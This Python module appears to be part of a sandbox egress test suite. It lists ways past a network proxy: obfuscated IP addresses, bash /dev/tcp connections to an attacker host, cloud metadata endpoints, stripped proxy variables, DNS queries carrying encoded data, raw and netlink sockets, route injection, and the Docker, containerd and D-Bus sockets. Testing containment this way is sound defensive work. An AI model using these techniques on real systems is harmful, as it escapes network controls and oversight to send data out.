"""Ways past the proxy: addresses, names, other kinds of sockets, sockets of other programs."""

import ctypes
import os
import socket
import ssl
import struct
import subprocess
import sys
import urllib.request

from . import ATTACKER, LIBC, RESOLVER, X86, canary, each, given, technique

# Straight to another address.


def say_to(family, kind, address, protocol=0):
    with socket.socket(family, kind, protocol) as stream:
        stream.settimeout(3)
        stream.connect(address)
        if kind == socket.SOCK_STREAM:
            stream.sendall(b"out")
            return f"connected to {address}"
        stream.send(b"out")
        return stream.recv(100)


@each({f"TCP to port {port}": port for port in (443, 80, 22, 4444, 8080)}, plain=True)
def tcp(port):
    return say_to(socket.AF_INET, socket.SOCK_STREAM, (ATTACKER, port))


@each(
    {
        "an address as one number": "3405803842",
        "an address in hexadecimal": "0xcb007142",
        "an address in octal parts": "0313.0.0161.0102",
        "an address in two parts": "203.28994",
    },
    plain=True,
)
def odd_address(text):
    return say_to(socket.AF_INET, socket.SOCK_STREAM, (socket.inet_ntoa(socket.inet_aton(text)), 443))


@technique("IPv4 inside an IPv6 socket", plain=True)
def mapped():
    return say_to(socket.AF_INET6, socket.SOCK_STREAM, (f"::ffff:{ATTACKER}", 443))


@technique("a connection by a multipath socket", plain=False)
def multipath():
    return say_to(socket.AF_INET, socket.SOCK_STREAM, (ATTACKER, 443), 262)


@technique("data in the first packet (fast open)", plain=True)
def fast_open():
    with socket.socket() as stream:
        return stream.sendto(b"out", 0x20000000, (ATTACKER, 443))


@technique("a bound source address", plain=True)
def bound_source():
    with socket.socket() as stream:
        stream.settimeout(3)
        stream.bind(("0.0.0.0", 0))
        stream.connect((ATTACKER, 443))
        return "connected"


@technique("bash's own sockets", plain=True)
def bash_socket():
    return subprocess.run(["bash", "-c", f"echo out > /dev/tcp/{ATTACKER}/4444"], stderr=subprocess.DEVNULL).returncode == 0


@technique("the cloud's metadata service", plain=True)
def metadata():
    opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))
    return canary(opener.open("http://169.254.169.254/latest", timeout=3).read().decode())


@each({f"metadata at {address}": address for address in ("100.100.100.200", "168.63.129.16", "169.254.170.2")}, plain=True)
def other_metadata(address):
    return say_to(socket.AF_INET, socket.SOCK_STREAM, (address, 80))


@technique("the private network", plain=True)
def private_network():
    return say_to(socket.AF_INET, socket.SOCK_STREAM, ("10.0.0.5", 443))


@technique("a service on the machine's loopback", plain=True)
def loopback_service():
    return say_to(socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", 8080))


@technique("proxy variables removed", plain=True)
def without_variables():
    code = f"import urllib.request,ssl; urllib.request.urlopen('https://{ATTACKER}/x', timeout=3, context=ssl._create_unverified_context())"
    return subprocess.run([sys.executable, "-c", code], env={}, stderr=subprocess.DEVNULL).returncode == 0


@technique("NO_PROXY for everyone", plain=True)
def no_proxy():
    code = "import urllib.request,ssl; urllib.request.urlopen('https://evil.test/x', timeout=3, context=ssl._create_unverified_context())"
    env = {**os.environ, "NO_PROXY": "*", "no_proxy": "*"}
    return subprocess.run([sys.executable, "-c", code], env=env, stderr=subprocess.DEVNULL).returncode == 0


# Names and datagrams.


def question(name):
    labels = b"".join(bytes([len(part)]) + part.encode() for part in name.split("."))
    return b"\x12\x34\x01\x00\x00\x01\0\0\0\0\0\0" + labels + b"\0\0\1\0\1"


@technique("a question to a resolver", plain=True)
def dns():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as asker:
        asker.settimeout(2)
        asker.sendto(question("x.6f7574.dns.test"), (RESOLVER, 53))
        return asker.recv(500)


@technique("a question to the attacker's own resolver", plain=True)
def own_dns():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as asker:
        asker.settimeout(2)
        asker.sendto(question("x.6f7574.dns.test"), (ATTACKER, 53))
        return asker.recv(500)


@technique("a name of the hosts file", plain=True)
def name_then_connect():
    address = socket.getaddrinfo("evil.test", 443, socket.AF_INET, socket.SOCK_STREAM)[0][4]
    return say_to(socket.AF_INET, socket.SOCK_STREAM, address)


@each({f"UDP to port {port}": port for port in (443, 123, 9999)})
def udp(port):
    return say_to(socket.AF_INET, socket.SOCK_DGRAM, (ATTACKER, port))


@technique("DNS over TCP")
def dns_tcp():
    return say_to(socket.AF_INET, socket.SOCK_STREAM, (RESOLVER, 53))


@technique("DNS over TLS")
def dns_tls():
    return say_to(socket.AF_INET, socket.SOCK_STREAM, (RESOLVER, 853))


@technique("an echo request by a ping socket")
def ping_socket():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP) as pinger:
        pinger.settimeout(1)
        pinger.sendto(b"\x08\0\xf7\xff\0\0\0\0out", (ATTACKER, 0))
        return pinger.recv(100)[:1] == b"\0" and False  # the loopback answers for everyone: nothing left


@technique("multicast")
def multicast():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
        sender.settimeout(1)
        sender.sendto(b"out", ("224.0.0.251", 5353))
        return sender.recv(100)


# Sockets of other kinds.


@each(
    {
        "a raw IP socket": (socket.AF_INET, socket.SOCK_RAW, 6),
        "a raw IPv6 socket": (socket.AF_INET6, socket.SOCK_RAW, 58),
        "a packet socket": (17, socket.SOCK_RAW, 0x300),
        "a vsock socket": (40, socket.SOCK_STREAM, 0),
        "a Bluetooth socket": (31, socket.SOCK_RAW, 1),
        "a kernel crypto socket": (38, socket.SOCK_SEQPACKET, 0),
        "an IPsec key socket": (15, socket.SOCK_RAW, 2),
        "a CAN socket": (29, socket.SOCK_RAW, 1),
        "a TIPC socket": (30, socket.SOCK_RDM, 0),
        "an RDS socket": (21, socket.SOCK_SEQPACKET, 0),
        "a QRTR socket": (42, socket.SOCK_DGRAM, 0),
        "an NFC socket": (39, socket.SOCK_SEQPACKET, 1),
        "an XDP socket": (44, socket.SOCK_RAW, 0),
        "an SMC socket": (43, socket.SOCK_STREAM, 0),
        "a KCM socket": (41, socket.SOCK_DGRAM, 0),
        "an AppleTalk socket": (5, socket.SOCK_DGRAM, 0),
        "an X.25 socket": (9, socket.SOCK_SEQPACKET, 0),
        "a netlink socket for audit": (16, socket.SOCK_RAW, 9),
        "a netlink socket for device events": (16, socket.SOCK_RAW, 15),
        "a netlink socket for the packet filter": (16, socket.SOCK_RAW, 12),
        "a netlink socket for socket lists": (16, socket.SOCK_RAW, 4),
        "a generic netlink socket": (16, socket.SOCK_RAW, 16),
    }
)
def socket_of(kind):
    with socket.socket(*kind):
        return "opened"


@technique("a raw socket whose type has flags in it")
def raw_with_flags():
    with socket.socket(socket.AF_INET, socket.SOCK_RAW | socket.SOCK_CLOEXEC | socket.SOCK_NONBLOCK, 6):
        return "opened"


@technique("a family with its upper half set")
def dirty_family():
    number = 41 if X86 else 198
    LIBC.syscall.restype = ctypes.c_long
    opened = LIBC.syscall(ctypes.c_long(number), ctypes.c_long(40 | 1 << 32), ctypes.c_long(1), ctypes.c_long(0))
    return opened >= 0


@technique("a route to another interface")
def add_route():
    message = struct.pack("IHHII", 36, 24, 0x405, 1, 0) + bytes([2, 0, 0, 0, 254, 4, 0, 1]) + struct.pack("IHHI", 0, 8, 4, 1)
    with socket.socket(16, socket.SOCK_RAW, 0) as netlink:
        netlink.send(message)
        return struct.unpack("i", netlink.recv(1000)[16:20]) == (0,)


@technique("a transparent socket")
def transparent():
    with socket.socket() as stream:
        stream.setsockopt(socket.SOL_IP, 19, 1)
        return "set"


@technique("a socket bound to a device")
def bound_to_device():
    # Allowed to all since Linux 5.7; it leads to the devices of the namespace only.
    with socket.socket() as stream:
        stream.settimeout(2)
        stream.setsockopt(socket.SOL_SOCKET, 25, b"eth0\0")
        stream.connect((ATTACKER, 443))
        return "connected"


# Unix sockets of other programs.


def talk_unix(path):
    with socket.socket(socket.AF_UNIX) as stream:
        stream.settimeout(2)
        stream.connect(path)
        return canary(stream.recv(100).decode())


@technique("an abstract socket", plain=True)
def abstract_socket():
    return talk_unix("\0" + given("ABSTRACT"))


@technique("a socket in the working directory", plain=True)
def work_socket():
    return talk_unix("agent.sock")


@technique("a socket in the working directory, by a link", plain=True)
def linked_socket():
    if not os.path.lexists("link.sock"):
        os.symlink("agent.sock", "link.sock")
    return talk_unix("link.sock")


@technique("a socket in the home", plain=True)
def home_socket():
    return talk_unix(given("HOME_SOCKET"))


@technique("a socket in /tmp", plain=True)
def tmp_socket():
    return talk_unix(given("TMP_SOCKET"))


@each({f"the socket {path}": path for path in ("/run/docker.sock", "/var/run/docker.sock", "/run/containerd/containerd.sock", "/run/dbus/system_bus_socket", "/run/systemd/private", "/run/nscd/socket", "/run/snapd.socket")})
def system_socket(path):
    with socket.socket(socket.AF_UNIX) as stream:
        stream.connect(path)
        return "connected"
